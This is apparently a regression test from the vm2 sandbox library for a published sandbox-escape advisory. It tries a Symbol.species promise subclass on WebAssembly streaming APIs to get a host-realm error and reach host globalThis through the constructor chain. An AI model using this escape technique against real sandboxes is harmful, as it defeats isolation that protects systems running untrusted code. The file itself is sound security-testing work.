// Source: vm2 test/ghsa/GHSA-wjwh-qqvp-g4p4 (duplicate GHSA-m3pp-qgq7-gwm6; fixed after vm2 3.11.2, by 3.12.2; PoC shape
// from vm2's lib/setup-sandbox.js comment for it): WebAssembly.compileStreaming / instantiateStreaming
// return promises whose prototype is the HOST Promise.prototype, outside vm2's then/catch/finally
// overrides; an attacker constructor[Symbol.species] + p.finally() received the raw host rejection.
// Tried: exactly that, with every argument shape that makes them reject with a host TypeError.
const out = { compileStreaming: typeof WebAssembly.compileStreaming, instantiateStreaming: typeof WebAssembly.instantiateStreaming };
class F {
  constructor(executor) { executor((v) => __wr.use(v, 'species resolve'), (e) => { out.reject = true; __wr.use(e, 'species reject'); __wr.use(e && e.constructor && e.constructor.constructor('return globalThis')(), 'host globalThis'); }); }
}
for (const api of ['compileStreaming', 'instantiateStreaming']) {
  for (const arg of [undefined, 0, Promise.resolve(0), {}]) {
    try {
      const p = WebAssembly[api](arg);
      out[api + 'Proto'] = Object.getPrototypeOf(p) === Promise.prototype;
      Object.defineProperty(p, 'constructor', { configurable: true, value: { [Symbol.species]: F } });
      p.finally(() => {});
      p.then(undefined, () => undefined);
    } catch (e) { out[api] = String(e.message).slice(0, 60); }
  }
}
await sleep(20);
return out;
